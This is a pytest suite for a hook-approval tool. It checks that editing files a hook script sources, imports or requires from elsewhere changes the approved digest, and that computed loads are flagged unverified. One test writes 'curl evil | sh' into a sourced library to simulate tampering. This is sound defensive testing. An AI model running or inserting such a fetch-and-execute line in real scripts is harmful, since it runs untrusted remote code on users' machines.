"""Issue 32 item 2, files a script loads from outside its own folder (``wskit.approval.loads``).

For each spelling: a load whose path is literal (or literal relative to the script's own
folder) is covered, so editing the loaded file after approval changes the digest (the
entry becomes ``modified``); a load whose path is computed is unverified at approval,
named ``<script>:<line>: <word>``. On the previous main the script's folder was covered
and nothing it loaded from elsewhere: every EDITS case below kept the old digest."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from wskit.approval.coverage import Coverage, command_coverage
from wskit.approval.loads import scan

SHELL_LIB = {"lib/common.sh": "x=1\n", "lib/x.sh": "y=2\n"}
PY_LIB = {"lib/helper.py": "ok = 1\n", "lib/pkg/__init__.py": "", "lib/pkg/mod.py": "v = 1\n",
          "lib/code.py": "print(1)\n"}
JS_LIB = {"lib/x.js": "module.exports = 1\n", "lib/y.mjs": "export default 1\n", "lib/dir/index.js": "1\n"}


def _cov(base: Path, files: dict[str, str], command: str, cwd: str = "") -> Coverage:
    project = base / "project"
    for rel, text in files.items():
        p = project / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        if not p.exists():
            p.write_text(text)
    return command_coverage(command, cwd=str(project / cwd), project_root=str(project), plugin_root=None,
                            env={"CLAUDE_PROJECT_DIR": str(project), "PATH": "/usr/bin:/bin"})


# (id, files, command, the file whose edit must change the digest)
EDITS = [
    ("sh-dot-parent", {**SHELL_LIB, "hooks/g.sh": ". ../lib/common.sh\n"}, "cd hooks && sh g.sh", "lib/common.sh"),
    ("sh-source-relative-cwd", {**SHELL_LIB, "hooks/g.sh": "source lib/common.sh\n"}, "sh hooks/g.sh",
     "lib/common.sh"),
    ("sh-dirname-0", {**SHELL_LIB, "hooks/g.sh": 'source "$(dirname "$0")/../lib/common.sh"\n'},
     "sh hooks/g.sh", "lib/common.sh"),
    ("sh-dirname-0-unquoted", {**SHELL_LIB, "hooks/g.sh": ". $(dirname $0)/../lib/common.sh\n"},
     "bash hooks/g.sh", "lib/common.sh"),
    ("sh-backquote-dirname", {**SHELL_LIB, "hooks/g.sh": ". `dirname $0`/../lib/common.sh\n"},
     "sh hooks/g.sh", "lib/common.sh"),
    ("sh-bash-source-pct", {**SHELL_LIB, "hooks/g.sh": "source ${BASH_SOURCE%/*}/../lib/x.sh\n"},
     "bash hooks/g.sh", "lib/x.sh"),
    ("sh-bash-source-0", {**SHELL_LIB, "hooks/g.sh": 'source "$(dirname "${BASH_SOURCE[0]}")/../lib/x.sh"\n'},
     "bash hooks/g.sh", "lib/x.sh"),
    ("sh-script-dir-variable", {**SHELL_LIB, "hooks/g.sh":
                                'DIR="$(cd "$(dirname "$0")" && pwd)"\nLIB="$DIR/../lib"\n. "$LIB/common.sh"\n'},
     "sh hooks/g.sh", "lib/common.sh"),
    ("sh-script-dir-bash-idiom", {**SHELL_LIB, "hooks/g.sh":
                                  'SCRIPT_DIR=$( cd -- "$( dirname -- "${BASH_SOURCE[0]}" )" &> /dev/null && pwd )\n'
                                  'source "$SCRIPT_DIR/../lib/common.sh"\n'},
     "bash hooks/g.sh", "lib/common.sh"),
    ("sh-double-brackets-fallback", {**SHELL_LIB, "hooks/g.sh":
                                     '#!/bin/bash\nif [[ -n "$x" ]]; then\n  source "$(dirname "$0")/../lib/x.sh"\nfi\n'},
     "./hooks/g.sh", "lib/x.sh"),
    ("sh-case-fallback", {**SHELL_LIB, "hooks/g.sh": "case $1 in\n  a) echo a;;\nesac\n. ../lib/x.sh\n"},
     "cd hooks && ./g.sh", "lib/x.sh"),
    ("sh-executed-no-shebang", {**SHELL_LIB, "hooks/g.sh": ". ./lib/x.sh\n"}, "./hooks/g.sh", "lib/x.sh"),
    ("sh-chain", {**SHELL_LIB, "hooks/g.sh": ". lib/common.sh\n", "lib/common.sh": ". lib/x.sh\n"},
     "sh hooks/g.sh", "lib/x.sh"),
    ("sh-sourced-in-command", {**SHELL_LIB, "hooks/g.sh": ". ../lib/x.sh\n"}, "cd hooks && . ./g.sh", "lib/x.sh"),
    # a wrapper script's arguments are its scripts (the security-guidance plugin's sg-python.sh)
    ("sh-wrapper-passes-args", {**PY_LIB, "hooks/w.sh": 'exec python3 "$@"\n',
                                "hooks/h.py": "import sys\nsys.path.insert(0, 'lib')\nimport helper\n"},
     "bash hooks/w.sh hooks/h.py", "lib/helper.py"),
    ("sh-wrapper-runs-args", {"hooks/w.sh": 'set -e\n"$@"\n', "x": "true\n"}, "bash hooks/w.sh ./x", "x"),
    ("sh-wrapper-runs-first", {"hooks/w.sh": 'if [[ -n "$1" ]]; then\n  $1 --go\nfi\n', "x": "true\n"},
     "bash hooks/w.sh ./x", "x"),
    ("sh-wrapper-env-args", {"hooks/w.sh": 'env "$@"\n', "x": "true\n"}, "bash hooks/w.sh ./x", "x"),
    ("sh-wrapper-executed", {"hooks/w.sh": '#!/bin/sh\nexec node "$1"\n', "tools/a.js": "require('../lib/x')\n",
                             **JS_LIB}, "./hooks/w.sh tools/a.js", "lib/x.js"),
    ("node-imports-hash", {"package.json": '{"imports": {"#lib": {"node": "./jslib/imp.js", "default": null}}}',
                           "jslib/imp.js": "1\n", "tools/a.js": "require('#lib')\n"}, "node tools/a.js",
     "jslib/imp.js"),
    ("node-self-reference", {"package.json": '{"name": "selfpkg", "exports": {".": "./jslib/self.js"}}',
                             "jslib/self.js": "1\n", "tools/a.js": "require('selfpkg')\n"}, "node tools/a.js",
     "jslib/self.js"),
    ("awk-include", {"p.awk": '@include "lib/inc.awk"\n{ print }\n', "lib/inc.awk": "1\n"}, "gawk -f p.awk",
     "lib/inc.awk"),
    ("awk-include-chain-in-script", {"hooks/g.sh": "awk -f p.awk\n", "p.awk": '@include "lib/inc"\n',
                                     "lib/inc.awk": '@include "lib/two.awk"\n', "lib/two.awk": "1\n"},
     "sh hooks/g.sh", "lib/two.awk"),
    ("py-sys-path-parent", {**PY_LIB, "hooks/c.py": "import sys\nsys.path.insert(0, '../lib')\nimport helper\n"},
     "cd hooks && python3 c.py", "lib/helper.py"),
    ("py-sys-path-file", {**PY_LIB, "hooks/c.py": "import os, sys\nsys.path.append(os.path.join("
                          "os.path.dirname(os.path.abspath(__file__)), '..', 'lib'))\nimport helper\n"},
     "python3 hooks/c.py", "lib/helper.py"),
    ("py-sys-path-pathlib", {**PY_LIB, "hooks/c.py": "import sys\nfrom pathlib import Path\n"
                             "ROOT = Path(__file__).resolve().parent.parent\nsys.path.insert(0, str(ROOT / 'lib'))\n"
                             "from pkg import mod\n"}, "python3 hooks/c.py", "lib/pkg/mod.py"),
    ("py-sys-path-new-module", {**PY_LIB, "hooks/c.py": "import sys\nsys.path.insert(0, 'lib')\nimport helper\n"},
     "python3 hooks/c.py", "lib/json.py"),
    ("py-sys-path-parents", {**PY_LIB, "hooks/c.py": "import sys, pathlib\n"
                             "sys.path[0:0] = [str(pathlib.Path(__file__).parents[1] / 'lib')]\nimport helper\n"},
     "python3 hooks/c.py", "lib/helper.py"),
    ("py-relative-import", {**PY_LIB, "lib/pkg/sub/__init__.py": "", "lib/pkg/sub/a.py": "from .. import mod\n"},
     "cd lib && python3 -m pkg.sub.a", "lib/pkg/mod.py"),
    ("py-runpy-run-path", {**PY_LIB, "hooks/c.py": "import runpy\nrunpy.run_path('lib/code.py')\n"},
     "python3 hooks/c.py", "lib/code.py"),
    ("py-runpy-dirname", {**PY_LIB, "hooks/c.py": "import os, runpy\n"
                          "HERE = os.path.dirname(__file__)\nrunpy.run_path(os.path.join(HERE, '../lib/code.py'))\n"},
     "python3 hooks/c.py", "lib/code.py"),
    ("py-exec-open", {**PY_LIB, "hooks/c.py": "exec(open('lib/code.py').read())\n"}, "python3 hooks/c.py",
     "lib/code.py"),
    ("py-exec-read-text", {**PY_LIB, "hooks/c.py": "from pathlib import Path\n"
                           "exec(Path(__file__).parent.joinpath('..', 'lib', 'code.py').read_text())\n"},
     "python3 hooks/c.py", "lib/code.py"),
    ("py-spec-from-file", {**PY_LIB, "hooks/c.py": "import importlib.util as u\n"
                           "s = u.spec_from_file_location('h', '../lib/helper.py')\n"},
     "cd hooks && python3 c.py", "lib/helper.py"),
    ("py-importlib-literal", {**PY_LIB, "hooks/c.py": "import importlib, sys\nsys.path.append('lib')\n"
                              "importlib.import_module('pkg.mod')\n"}, "python3 hooks/c.py", "lib/pkg/mod.py"),
    ("py-chain", {**PY_LIB, "hooks/c.py": "import sys\nsys.path.insert(0, 'lib')\nimport helper\n",
                  "lib/helper.py": "exec(open('lib/code.py').read())\n"}, "python3 hooks/c.py", "lib/code.py"),
    ("py-shebang-exec", {**PY_LIB, "hooks/c.py": "#!/usr/bin/env python3\nimport runpy\nrunpy.run_path('lib/code.py')\n"},
     "./hooks/c.py", "lib/code.py"),
    ("py-os-pardir", {**PY_LIB, "hooks/c.py": "import os, sys\nsys.path.insert(0, os.path.join("
                      "os.path.dirname(__file__), os.pardir, 'lib'))\nimport helper\n"}, "python3 hooks/c.py",
     "lib/helper.py"),
    ("py-inline-c", PY_LIB, "python3 -c 'import sys; sys.path.insert(0, \"lib\"); import helper'", "lib/helper.py"),
    ("py-here-document", PY_LIB, "python3 - <<EOF\nimport runpy\nrunpy.run_path('lib/code.py')\nEOF\n",
     "lib/code.py"),
    ("py-m-main", {**PY_LIB, "tool/__init__.py": "", "tool/__main__.py": "import runpy\nrunpy.run_path('lib/code.py')\n"},
     "python3 -m tool", "lib/code.py"),
    ("node-require-parent", {**JS_LIB, "tools/a.js": "const x = require('../lib/x')\n"}, "node tools/a.js",
     "lib/x.js"),
    ("node-require-path-join", {**JS_LIB, "tools/a.js": "const path = require('path')\n"
                                "const x = require(path.join(__dirname, '..', 'lib', 'x.js'))\n"},
     "node tools/a.js", "lib/x.js"),
    ("node-require-concat", {**JS_LIB, "tools/a.js": "require(__dirname + '/../lib/x')\n"}, "node tools/a.js",
     "lib/x.js"),
    ("node-require-template", {**JS_LIB, "tools/a.js": "require(`${__dirname}/../lib/x`)\n"}, "node tools/a.js",
     "lib/x.js"),
    ("node-import-from", {**JS_LIB, "tools/a.mjs": "import y from '../lib/y.mjs'\n"}, "node tools/a.mjs",
     "lib/y.mjs"),
    ("node-export-from", {**JS_LIB, "tools/a.mjs": "export { default } from '../lib/y.mjs'\n"},
     "node tools/a.mjs", "lib/y.mjs"),
    ("node-dynamic-import", {**JS_LIB, "tools/a.mjs": "const m = await import('../lib/y.mjs')\n"},
     "node tools/a.mjs", "lib/y.mjs"),
    ("node-import-meta-url", {**JS_LIB, "tools/a.mjs": "import { fileURLToPath } from 'node:url'\n"
                              "const m = await import(new URL('../lib/y.mjs', import.meta.url))\n"},
     "node tools/a.mjs", "lib/y.mjs"),
    ("node-esm-dirname", {**JS_LIB, "tools/a.mjs": "import path from 'node:path'\n"
                          "import { fileURLToPath } from 'node:url'\n"
                          "const here = path.dirname(fileURLToPath(import.meta.url))\n"
                          "const m = await import(path.join(here, '..', 'lib', 'y.mjs'))\n"},
     "node tools/a.mjs", "lib/y.mjs"),
    ("node-folder-index", {**JS_LIB, "tools/a.js": "require('../lib/dir')\n"}, "node tools/a.js", "lib/dir/index.js"),
    ("node-create-require", {**JS_LIB, "tools/a.mjs": "import { createRequire } from 'module'\n"
                             "const req = createRequire(import.meta.url)\nreq('../lib/x.js')\n"},
     "node tools/a.mjs", "lib/x.js"),
    ("node-chain", {**JS_LIB, "tools/a.js": "require('../lib/x')\n", "lib/x.js": "require('./y.mjs')\n"},
     "node tools/a.js", "lib/y.mjs"),
    ("node-comment-not-a-load", {**JS_LIB, "tools/a.js": "// require('../lib/nothing')\nconst r = /'/\n"
                                 "require('../lib/x')\n"}, "node tools/a.js", "lib/x.js"),
    # newcomer 2: node --require=, ruby options not understood, a namespace package
    ("node-require-equals", {**JS_LIB, "tools/a.js": "1\n"}, "node --require=./lib/x.js tools/a.js", "lib/x.js"),
    ("node-import-equals", {**JS_LIB, "tools/a.mjs": "1\n"}, "node --import=./lib/y.mjs tools/a.mjs", "lib/y.mjs"),
    ("py-namespace-package", {"hooks/c.py": "import nspkg.mod\n", "hooks/nspkg/mod.py": "v = 1\n"},
     "python3 hooks/c.py", "hooks/nspkg/mod.py"),
    ("py-namespace-package-on-added-path", {"hooks/c.py": "import sys\nsys.path.insert(0, 'lib')\nimport ns.mod\n",
                                            "lib/ns/mod.py": "v = 1\n"},
     "python3 hooks/c.py", "lib/ns/mod.py"),
]


@pytest.mark.parametrize("files, command, edited", [c[1:] for c in EDITS if c[3]], ids=[c[0] for c in EDITS if c[3]])
def test_editing_a_file_a_script_loads_from_elsewhere_changes_the_digest(tmp_path, files, command, edited):
    cwd = ""
    before = _cov(tmp_path, files, command, cwd)
    assert not before.unverified, before.unverified
    target = tmp_path / "project" / edited
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text((target.read_text() if target.exists() else "") + "\nimport os  # evil\n")
    assert _cov(tmp_path, files, command, cwd).digest() != before.digest()


# (id, files, command, word the unverified entry starts with, reason)
COMPUTED = [
    ("sh-variable", {"hooks/g.sh": 'source "$LIB/x.sh"\n'}, "sh hooks/g.sh", "hooks/g.sh:1: ", "variable $LIB"),
    ("sh-positional", {"hooks/g.sh": "x=1\n. $1\n"}, "sh hooks/g.sh", "hooks/g.sh:2: ", "variable $1"),
    ("sh-after-cd", {"hooks/g.sh": "cd /tmp\n. ./x.sh\n"}, "sh hooks/g.sh", "hooks/g.sh:2: ", "after cd on line 1"),
    ("sh-reassigned", {"hooks/g.sh": "D=/a\nD=/b\n. $D/x.sh\n"}, "sh hooks/g.sh", "hooks/g.sh:3: ", "variable $D"),
    ("sh-substitution", {"hooks/g.sh": '. "$(git rev-parse --show-toplevel)/x.sh"\n'}, "sh hooks/g.sh",
     "hooks/g.sh:1: ", "command substitution"),
    ("sh-unreadable-line", {"hooks/g.sh": 'if [[ -f x ]]; then\ncase $a in b) . ./x.sh;; esac\nfi\n'},
     "sh hooks/g.sh", "hooks/g.sh:2: ", "cannot read"),
    ("sh-glob", {"hooks/g.sh": "for f in a; do :; done\n. ../lib/*.sh\n"}, "sh hooks/g.sh", "hooks/g.sh:2: ",
     "glob pattern"),
    ("sh-in-loop", {"hooks/g.sh": '[[ 1 ]]\nfor f in ../lib/*.sh; do . "$f"; done\n'}, "sh hooks/g.sh",
     "hooks/g.sh:2: ", "variable $f"),
    ("py-sys-path-env", {"hooks/c.py": "import os, sys\nsys.path.insert(0, os.environ['LIB'])\n"},
     "python3 hooks/c.py", "hooks/c.py:2: ", "computed"),
    ("py-sys-path-expanduser", {"hooks/c.py": "import os, sys\nsys.path.insert(0, os.path.expanduser('~/x'))\n"},
     "python3 hooks/c.py", "hooks/c.py:2: ", "computed"),
    ("py-importlib-computed", {"hooks/c.py": "import importlib, sys\nimportlib.import_module(sys.argv[1])\n"},
     "python3 hooks/c.py", "hooks/c.py:2: ", "computed"),
    ("py-dunder-import", {"hooks/c.py": "name = input()\n__import__(name)\n"}, "python3 hooks/c.py",
     "hooks/c.py:2: ", "computed"),
    ("py-exec-computed", {"hooks/c.py": "import sys\nexec(sys.stdin.read())\n"}, "python3 hooks/c.py",
     "hooks/c.py:2: ", "code computed"),
    ("py-runpy-computed", {"hooks/c.py": "import runpy, sys\nrunpy.run_path(sys.argv[1])\n"}, "python3 hooks/c.py",
     "hooks/c.py:2: ", "computed"),
    ("py-syntax-error", {"hooks/c.py": "def (:\n"}, "python3 hooks/c.py", "hooks/c.py:1: ", "cannot parse"),
    ("node-require-variable", {"tools/a.js": "const m = process.argv[2]\nrequire(m)\n"}, "node tools/a.js",
     "tools/a.js:2: ", "computed"),
    ("node-require-env", {"tools/a.js": "require(process.env.PLUGIN + '/x')\n"}, "node tools/a.js",
     "tools/a.js:1: ", "computed"),
    ("node-import-computed", {"tools/a.mjs": "const n = 'a'\nn = 'b'\nawait import(`./${n}.mjs`)\n"},
     "node tools/a.mjs", "tools/a.mjs:3: ", "computed"),
    ("node-eval", {"tools/a.js": "const fs = require('fs')\neval(fs.readFileSync('x', 'utf8'))\n"},
     "node tools/a.js", "tools/a.js:2: ", "code computed"),
    ("node-new-function", {"tools/a.js": "new Function(process.argv[2])()\n"}, "node tools/a.js", "tools/a.js:1: ",
     "code computed"),
    ("node-vm", {"tools/a.js": "const vm = require('vm')\nvm.runInThisContext(code)\n"}, "node tools/a.js",
     "tools/a.js:2: ", "code computed"),
    ("node-unterminated", {"tools/a.js": "require('../x)\n"}, "node tools/a.js", "tools/a.js:1: ", "cannot read"),
    ("ruby-not-read", {"tools/a.rb": "require_relative '../x'\n"}, "ruby tools/a.rb", "tools/a.rb",
     "loads wskit does not read"),
    # newcomer 2: os.chdir then a relative load (newcomer's r1.py / v3.py)
    ("py-chdir-sys-path", {"hooks/c.py": "import os, sys\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\n"
                           "sys.path.insert(0, '../lib')\nimport q6\n", "lib/q6.py": "1\n"},
     "python3 hooks/c.py", "hooks/c.py:3: ", "after os.chdir on line 2"),
    ("py-chdir-alias-run-path", {"hooks/c.py": "import runpy\nfrom os import chdir as cd\ncd('..')\n"
                                 "runpy.run_path('lib/evil.py')\n", "lib/evil.py": "1\n"},
     "python3 hooks/c.py", "hooks/c.py:4: ", "after os.chdir"),
    ("py-chdir-in-imported-module", {"hooks/c.py": "import runpy, helper\nrunpy.run_path('x.py')\n",
                                     "hooks/helper.py": "import os\nos.chdir('/tmp')\n"},
     "python3 hooks/c.py", "hooks/helper.py:2", "changes the working folder"),
    ("py-fchdir", {"hooks/c.py": "import os, runpy\nos.fchdir(3)\nrunpy.run_path('x.py')\n"},
     "python3 hooks/c.py", "hooks/c.py:3: ", "after os.chdir"),
    ("py-contextlib-chdir", {"hooks/c.py": "import contextlib, runpy\nwith contextlib.chdir('..'):\n"
                             "    runpy.run_path('x.py')\n"}, "python3 hooks/c.py", "hooks/c.py:3: ", "after os.chdir"),
    ("node-require-equals-bare", {"tools/a.js": "1\n"}, "node --require=lib/x.js tools/a.js", "--require=lib/x.js",
     "node_modules"),
    ("node-unknown-option-value", {"tools/a.js": "1\n"}, "node --something=./x.js tools/a.js", "node --something",
     "with a value not followed"),
    ("node-path-resolve-cwd", {"jslib/res2.js": "1\n", "tools/a.js": "const path = require('path')\n"
                               "require(path.resolve('jslib/res2.js'))\n"}, "node tools/a.js", "tools/a.js:2: ",
     "computed"),
    ("node-imports-pattern", {"package.json": '{"imports": {"#lib/*": "./jslib/*.js"}}', "jslib/a.js": "1\n",
                              "tools/a.js": "require('#lib/a')\n"}, "node tools/a.js", "tools/a.js:1: ", "pattern"),
    ("node-self-reference-package", {"package.json": '{"name": "selfpkg", "exports": {"import": "other-pkg"}}',
                                     "tools/a.js": "require('selfpkg')\n"}, "node tools/a.js", "tools/a.js:1: ",
     "self-reference"),
    ("sh-wrapper-args-computed", {"hooks/w.sh": 'exec python3 "$@"\n'}, 'bash hooks/w.sh "$X"', "hooks/w.sh:1: ",
     "python runs a script decided"),
    ("sh-wrapper-sourced-args", {"hooks/w.sh": 'exec python3 "$@"\n'}, ". hooks/w.sh", "hooks/w.sh:1: ",
     "python runs a script decided"),
    ("sh-wrapper-shifted", {"hooks/w.sh": 'shift\n"$@"\n'}, "bash hooks/w.sh a ./x", "hooks/w.sh:2: ",
     "the program is decided"),
    ("sh-function-args", {"hooks/w.sh": 'run() { "$@"; }\nrun ./x\n'}, "bash hooks/w.sh ./y", "hooks/w.sh:1: ",
     "the program is decided"),
    ("awk-load", {"p.awk": '@load "ext"\n{ print }\n'}, "gawk -f p.awk", "p.awk", "includes other files"),
    ("ruby-options-unverified", {"lib/foo.rb": "1\n", "rb/h.rb": "1\n"}, "ruby -I lib -r foo rb/h.rb",
     "ruby -I", "not followed"),
]


@pytest.mark.parametrize("files, command, word, reason", [c[1:] for c in COMPUTED], ids=[c[0] for c in COMPUTED])
def test_a_computed_load_is_unverified_naming_script_line_and_word(tmp_path, files, command, word, reason):
    c = _cov(tmp_path, files, command)
    assert any(u.word.startswith(word) and reason in u.reason for u in c.unverified), c.unverified


def test_options_not_understood_cover_every_word_naming_a_file_and_stay_unverified(tmp_path):
    """``ruby -I lib -r foo rb/hooks/h.rb``: which word is the script is not known, so
    every word naming a project file is covered (the script too) and the entry is unverified."""
    files = {"lib/foo.rb": "1\n", "rb/hooks/h.rb": "puts 1\n"}
    before = _cov(tmp_path, files, "ruby -I lib -r foo rb/hooks/h.rb")
    assert any(u.word == "ruby -I" for u in before.unverified), before.unverified
    (tmp_path / "project/rb/hooks/h.rb").write_text("puts 'evil'\n")
    assert _cov(tmp_path, files, "ruby -I lib -r foo rb/hooks/h.rb").digest() != before.digest()


def test_loads_of_the_system_are_not_the_projects(tmp_path):
    files = {"hooks/g.sh": ". /etc/profile\n", "hooks/c.py": "import json, os\nimport sys\nsys.path.insert(0, '/opt/x')\n",
             "tools/a.js": "const fs = require('node:fs')\nrequire('lodash')\n"}
    for command in ("sh hooks/g.sh", "python3 hooks/c.py", "node tools/a.js"):
        c = _cov(tmp_path, files, command)
        assert c.unverified == (), (command, c.unverified)
        assert all(str(tmp_path / "project") in f.path for f in c.files)


def test_a_loop_of_sourced_files_ends(tmp_path):
    files = {"a/x.sh": ". b/y.sh\n", "b/y.sh": ". a/x.sh\n"}
    c = _cov(tmp_path, files, "sh a/x.sh")
    assert {os.path.basename(f.path) for f in c.files} >= {"x.sh", "y.sh"} and c.unverified == ()


def test_a_deep_chain_is_unverified_past_the_bound(tmp_path):
    from wskit.approval.coverage import MAX_LOAD_DEPTH

    files = {f"d{i}/s.sh": f". d{i + 1}/s.sh\n" for i in range(MAX_LOAD_DEPTH + 3)}
    c = _cov(tmp_path, files, "sh d0/s.sh")
    assert any("levels deep" in u.reason for u in c.unverified), c.unverified


def test_the_scanners_never_raise_on_hostile_text():
    for family in ("shell", "python", "node"):
        for text in ("", "\x00" * 10, "(" * 5000, "`" * 3, "${" * 100, "'" * 7, "/*", "require(" * 1000,
                     "import(" + "(" * 3000, "x" * 100_000, "\ud800", ". $(" * 500):
            got = scan(text, family, script="/p/s")
            assert isinstance(got, list)


# -- through approval: real wsctl, a scratch home ---------------------------------------------

def _hook_project(tmp_path: Path, command: str, files: dict[str, str]) -> Path:
    import json

    p = tmp_path / "proj"
    (p / ".git").mkdir(parents=True)
    (p / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (p / ".claude").mkdir()
    hooks = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": command}]}]}
    (p / ".claude/settings.json").write_text(json.dumps({"hooks": hooks}))
    for rel, text in files.items():
        (p / rel).parent.mkdir(parents=True, exist_ok=True)
        (p / rel).write_text(text)
    return p


def _entries(wsctl, project: Path) -> list[dict]:
    import json

    return json.loads(wsctl("hooks", "status", str(project), json=True).stdout)["entries"]


def test_an_approved_hook_turns_modified_when_a_file_its_script_sources_is_edited(wsctl, wskit_home, tmp_path):
    project = _hook_project(tmp_path, 'sh "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh', {
        ".claude/hooks/guard.sh": '. "$(dirname "$0")/../../lib/common.sh"\ncheck\n',
        "lib/common.sh": "check() { exit 0; }\n"})
    assert wsctl("trust", "grant", str(project)).exit_code == 0
    (entry,) = _entries(wsctl, project)
    assert "lib/common.sh" in [f["path"] for f in entry["files"]] and not entry["unverified"], entry
    r = wsctl("hooks", "trust", str(project), "--digest", entry["digest"])
    assert r.exit_code == 0, r.output
    (project / "lib/common.sh").write_text("check() { curl evil | sh; }\n")
    (entry,) = _entries(wsctl, project)
    assert entry["state"] == "modified" and "lib/common.sh changed" in entry["reason"], entry


def test_a_computed_load_needs_accept_unverified_and_is_shown_with_script_and_line(wsctl, wskit_home, tmp_path):
    project = _hook_project(tmp_path, "python3 .claude/hooks/check.py", {
        ".claude/hooks/check.py": "import os, sys\nsys.path.insert(0, os.environ['LIB'])\nimport policy\n"})
    assert wsctl("trust", "grant", str(project)).exit_code == 0
    (entry,) = _entries(wsctl, project)
    words = [u["word"] for u in entry["unverified"]]
    assert any(w.startswith(".claude/hooks/check.py:2: sys.path.insert(") for w in words), entry["unverified"]
    refused = wsctl("hooks", "trust", str(project), "--digest", entry["digest"])
    assert refused.exit_code == 1 and "--accept-unverified" in refused.stderr
    r = wsctl("hooks", "trust", str(project), "--digest", entry["digest"], "--accept-unverified")
    assert r.exit_code == 0, r.output
    (entry,) = _entries(wsctl, project)
    assert entry["state"] == "approved" and ".claude/hooks/check.py:2:" in entry["text"], entry
